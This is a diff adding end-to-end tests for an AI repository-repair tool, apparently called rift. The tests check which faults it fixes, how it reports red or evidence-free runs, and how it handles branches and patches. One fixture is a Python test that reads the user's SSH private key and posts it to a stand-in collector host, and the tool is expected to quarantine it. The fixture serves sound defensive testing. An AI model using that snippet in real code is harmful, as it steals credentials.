@@ -1,0 +1,209 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Results } from '../../domain/results';
+import { git, makeRemote, type Files, type TestRepository } from '../support/repositories';
+import { ownRift, type Ran } from '../support/rift';
+
+const PYPROJECT = `[project]
+name = "shop"
+version = "1.0"
+
+[tool.pytest.ini_options]
+pythonpath = ["."]
+`;
+const RUFF = `\n[tool.ruff.lint]\nselect = ["E", "F"]\n`;
+const TESTS = `from shop.prices import price_of, total
+
+
+def test_price():
+    assert price_of("tea") == 3
+
+
+def test_total():
+    assert total(["tea", "cake"]) == 8
+`;
+const HEALTHY = `"""Prices."""
+
+TABLE = {"tea": 3, "cake": 5}
+
+
+def price_of(item):
+    return TABLE[item]
+
+
+def total(items):
+    return sum(price_of(item) for item in items)
+`;
+const shop = (prices: string, more: Files = {}): Files => ({
+  'pyproject.toml': PYPROJECT,
+  'requirements-dev.txt': 'pytest==8.4.2\n',
+  'shop/__init__.py': '',
+  'shop/prices.py': prices,
+  'tests/test_prices.py': TESTS,
+  ...more,
+});
+
+const rift = ownRift();
+const repositories: TestRepository[] = [];
+const remoteOf = (files: Files) => {
+  const repository = makeRemote(files);
+  repositories.push(repository);
+  return repository;
+};
+
+beforeAll(async () => {
+  const up = await rift.run(['up', '--json']);
+  if (up.code !== 0) throw new Error(up.stderr);
+}, 400_000);
+afterAll(async () => {
+  await rift.dispose();
+  repositories.forEach((repository) => repository.dispose());
+}, 60_000);
+
+const BRANCH = 'TEAM_ADA_AI_Fix';
+const heal = (remote: string, ...more: string[]) =>
+  rift.run(['heal', remote, '--team', 'Team', '--leader', 'Ada', '--json', ...more]);
+
+function answer({ stdout, stderr, code }: Ran) {
+  let end: { run_id: string; verdict: string; branch_name: string; commits: { sha: string }[]; results_json: string };
+  try {
+    end = JSON.parse(stdout) as typeof end;
+  } catch {
+    throw new Error(`exit ${code}, no JSON on stdout: ${stdout.slice(0, 500)}\n${stderr.slice(-2000)}`);
+  }
+  return { ...end, code, results: JSON.parse(readFileSync(end.results_json, 'utf8')) as Results };
+}
+
+test('faults of four types are healed, one uncovering the next, each told where it was submitted', async () => {
+  const broken = HEALTHY.replace('"""Prices."""\n', '"""Prices."""\n\nimport os\nimport jsno\n')
+    .replace('def price_of(item):', 'def price_of(item)')
+    .replace('    return sum', '    jsno = json.dumps(items)\n    return sum');
+  const files = shop(
+    broken.replace('    jsno = json.dumps(items)\n', '').replace('import jsno\n', 'import jsno as json\n'),
+    {
+      'pyproject.toml': PYPROJECT + RUFF,
+      'requirements-dev.txt': 'pytest==8.4.2\nruff==0.14.2\n',
+      'shop/text.py':
+        '"""Text."""\n\nfrom shop.prices import totl\n\n\ndef receipt(items):\n    if not items:\n    return "nothing"\n    return f"{totl(items)}"\n',
+      'tests/test_text.py':
+        'from shop.text import receipt\n\n\ndef test_receipt():\n    assert receipt(["tea"]) == "3"\n    assert receipt([]) == "nothing"\n',
+    },
+  );
+  const repository = remoteOf(files);
+  const main = git(repository.remote, 'rev-parse', 'main');
+  const end = answer(await heal(repository.remote));
+  expect(end).toMatchObject({ code: 0, verdict: 'green', branch_name: BRANCH });
+  expect(end.results.final_status).toBe('PASSED');
+
+  const reported = end.results.fixes.map(({ file, bug_type, line_number, status }) => [
+    file,
+    bug_type,
+    line_number,
+    status,
+  ]);
+  expect(reported).toEqual(
+    expect.arrayContaining([
+      ['shop/prices.py', 'SYNTAX', 9, 'applied'],
+      ['shop/prices.py', 'LINTING', 3, 'applied'],
+      ['shop/text.py', 'INDENTATION', 8, 'applied'],
+      ['shop/text.py', 'IMPORT', 3, 'applied'],
+    ]),
+  );
+
+  expect(repository.branches()).toEqual([BRANCH, 'main']);
+  expect(git(repository.remote, 'rev-parse', 'main')).toBe(main);
+  const log = git(repository.remote, 'log', '--format=%H', `main..${BRANCH}`).split('\n');
+  expect(log.sort()).toEqual(end.commits.map(({ sha }) => sha).sort());
+  for (const sha of log) {
+    const message = git(repository.remote, 'log', '-1', '--format=%B', sha);
+    expect(message).toMatch(/^\[AI-AGENT\] /);
+    expect(message).toContain(`Rift-Run: ${end.run_id}`);
+  }
+  const changed = git(repository.remote, 'diff', '--name-only', 'main', BRANCH).split('\n');
+  expect(changed).toEqual(['shop/prices.py', 'shop/text.py']);
+}, 300_000);
+
+test('a green repository ends green, with nothing pushed', async () => {
+  const repository = remoteOf(shop(HEALTHY));
+  const end = answer(await heal(repository.remote));
+  expect(end).toMatchObject({ code: 0, verdict: 'green', commits: [] });
+  expect(repository.branches()).toEqual(['main']);
+}, 120_000);
+
+test('tests that contradict each other end red with what was tried, and no test is touched', async () => {
+  const opposite = `${TESTS}\n\ndef test_other_price():\n    assert price_of("tea") == 4\n`;
+  const repository = remoteOf(shop(HEALTHY, { 'tests/test_prices.py': opposite }));
+  const end = answer(await heal(repository.remote));
+  expect(end).toMatchObject({ code: 1, verdict: 'red', results: { final_status: 'FAILED' } });
+  expect(end.results.reason).toMatchObject({ code: 'STILL_FAILING' });
+  if (repository.branches().includes(BRANCH)) {
+    expect(git(repository.remote, 'diff', '--name-only', 'main', BRANCH)).not.toContain('tests/');
+  }
+}, 300_000);
+
+test('what can be healed is delivered although something else stays red', async () => {
+  const opposite = `${TESTS}\n\ndef test_other_price():\n    assert price_of("tea") == 4\n`;
+  const files = shop(HEALTHY, { 'tests/test_prices.py': opposite, 'shop/extra.py': 'def f(a, b)\n    return a\n' });
+  const repository = remoteOf(files);
+  const end = answer(await heal(repository.remote));
+  expect(end).toMatchObject({ code: 1, verdict: 'red' });
+  expect(end.results.fixes).toEqual(
+    expect.arrayContaining([
+      expect.objectContaining({ file: 'shop/extra.py', bug_type: 'SYNTAX', line_number: 1, status: 'applied' }),
+    ]),
+  );
+  expect(git(repository.remote, 'show', `${BRANCH}:shop/extra.py`)).toContain('def f(a, b):');
+}, 300_000);
+
+test('nothing to judge by is no evidence, and each check that was looked for is named', async () => {
+  const repository = remoteOf({ 'README.md': '# Nothing here yet\n', 'shop/prices.py': HEALTHY });
+  const end = answer(await heal(repository.remote));
+  expect(end).toMatchObject({ code: 2, verdict: 'no_evidence', commits: [] });
+  expect(end.results.checks_not_run.length).toBeGreaterThan(0);
+  expect(repository.branches()).toEqual(['main']);
+}, 120_000);
+
+test('code that reads credentials and sends them away is quarantined before anything runs', async () => {
+  const thief = `import pathlib
+import urllib.request
+
+
+def test_environment():
+    key = (pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes()
+    urllib.request.urlopen("http://collector.invalid/", data=key)
+`;
+  const repository = remoteOf(shop(HEALTHY.replace('(item):', '(item)'), { 'tests/test_env.py': thief }));
+  const end = answer(await heal(repository.remote));
+  expect(end).toMatchObject({ code: 3, verdict: 'quarantined', results: { final_status: 'QUARANTINED' } });
+  expect(end.results.reason).toMatchObject({ code: 'MALICIOUS_CODE', file: 'tests/test_env.py', line: 6 });
+  expect(repository.branches()).toEqual(['main']);
+}, 120_000);
+
+test('a repository that is not there, and a branch that is not ours, are told apart from failing code', async () => {
+  const gone = answer(await heal(join(rift.home, 'no-such-repository')));
+  expect(gone).toMatchObject({ code: 65, verdict: 'error', results: { reason: { code: 'CLONE_FAILED' } } });
+
+  const repository = remoteOf(shop(HEALTHY));
+  git(repository.remote, 'branch', BRANCH, 'main');
+  const taken = answer(await heal(repository.remote));
+  expect(taken).toMatchObject({ code: 65, verdict: 'error', results: { reason: { code: 'BRANCH_TAKEN' } } });
+}, 120_000);
+
+test('without a push the remote stays as it is and the patch is in the output folder', async () => {
+  const repository = remoteOf(shop(HEALTHY.replace('def total(items):', 'def total(items)')));
+  const end = answer(await heal(repository.remote, '--no-push'));
+  expect(end).toMatchObject({ code: 0, verdict: 'green' });
+  expect(repository.branches()).toEqual(['main']);
+  const patch = join(end.results_json, '..', 'fixes.patch');
+  expect(existsSync(patch)).toBe(true);
+  expect(readFileSync(patch, 'utf8')).toContain('+def total(items):');
+}, 200_000);
+
+test('a second run continues the branch of the first', async () => {
+  const repository = remoteOf(shop(HEALTHY.replace('def total(items):', 'def total(items)')));
+  expect(answer(await heal(repository.remote))).toMatchObject({ code: 0, verdict: 'green' });
+  const tip = git(repository.remote, 'rev-parse', BRANCH);
+  const again = answer(await heal(repository.remote));
+  expect(again).toMatchObject({ code: 0, verdict: 'green', commits: [] });
+  expect(git(repository.remote, 'rev-parse', BRANCH)).toBe(tip);
+}, 300_000);
